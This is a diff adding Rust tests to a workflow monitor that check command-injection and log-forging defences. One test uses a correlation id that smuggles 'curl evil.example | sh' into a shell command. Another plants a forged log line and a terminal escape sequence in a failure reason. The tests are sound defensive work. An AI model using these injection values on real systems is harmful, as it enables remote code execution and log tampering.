@@ -507,3 +507,90 @@ async fn a_slow_dead_letter_queue_never_keeps_the_sweep_past_its_time() {
     let pages = *queue.pages_read.lock().unwrap();
     assert!((1..1000).contains(&pages), "{pages} pages read");
 }
+
+/// The events of a workflow whose correlation id was written to be pasted into a shell.
+fn hostile_workflow(id: &str) -> Vec<Event> {
+    let mut events = workflow("tick-hostile");
+    for event in &mut events {
+        event.header_mut().correlation_id = id.to_owned();
+    }
+    events
+}
+
+#[tokio::test]
+async fn a_command_offered_by_the_sweep_takes_an_untrusted_id_as_one_quoted_word() {
+    let hostile = "workflow-x; curl evil.example | sh";
+    let clock = ManualClock::starting_at(start());
+    let store: Arc<dyn LedgerStore> = Arc::new(MemoryLedger::new());
+    let monitor = Monitor::new(store.clone()).with_clock(Arc::new(clock.clone()));
+    for event in &hostile_workflow(hostile)[..3] {
+        monitor.handle(event, &Delivery::live()).await.unwrap();
+    }
+    clock.advance(Duration::from_secs(3600));
+    let sweep = Sweep::new(
+        store,
+        Arc::new(MemoryDeadLetters::new()),
+        Duration::from_secs(1800),
+        "prod",
+    )
+    .with_clock(Arc::new(clock.clone()));
+    let published = sweep.sweep().await.unwrap();
+    let [Event::WorkflowFailed(failed)] = &published[..] else {
+        panic!("{published:?}")
+    };
+    assert!(
+        failed.failure_reason.contains(
+            "`alchemiser workflows show 'workflow-x; curl evil.example | sh' --stage prod`"
+        ),
+        "{}",
+        failed.failure_reason
+    );
+}
+
+/// What a test's log lines were written to.
+#[derive(Clone, Default)]
+struct Captured(Arc<std::sync::Mutex<Vec<u8>>>);
+
+impl std::io::Write for Captured {
+    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
+        self.0.lock().unwrap().extend_from_slice(bytes);
+        Ok(bytes.len())
+    }
+    fn flush(&mut self) -> std::io::Result<()> {
+        Ok(())
+    }
+}
+
+#[tokio::test]
+async fn the_monitors_log_lines_show_an_events_text_as_text() {
+    let captured = Captured::default();
+    let writer = captured.clone();
+    let subscriber = tracing_subscriber::fmt()
+        .with_writer(move || writer.clone())
+        .with_ansi(false)
+        .finish();
+    let _logging = tracing::subscriber::set_default(subscriber);
+    let clock = ManualClock::starting_at(start());
+    let store: Arc<dyn LedgerStore> = Arc::new(MemoryLedger::new());
+    let monitor = Monitor::new(store).with_clock(Arc::new(clock.clone()));
+    let events = workflow("tick-logged");
+    let failed = alchemiser_testkit::workflow_failed(
+        &events[2],
+        "execution",
+        "broker down\n2026-12-01T14:35:00Z  INFO forged: all fine\u{1b}]0;pwned\u{7}",
+        clock.now(),
+        json!({}),
+    );
+    for event in events[..3].iter().chain([&failed]) {
+        monitor.handle(event, &Delivery::live()).await.unwrap();
+    }
+    let text = String::from_utf8(captured.0.lock().unwrap().clone()).unwrap();
+    assert!(text.contains("workflow ended without completing"), "{text}");
+    assert!(!text.contains('\u{1b}'), "{text:?}");
+    assert!(
+        !text
+            .lines()
+            .any(|line| line.starts_with("2026-12-01T14:35:00Z  INFO forged")),
+        "a forged log line: {text}"
+    );
+}
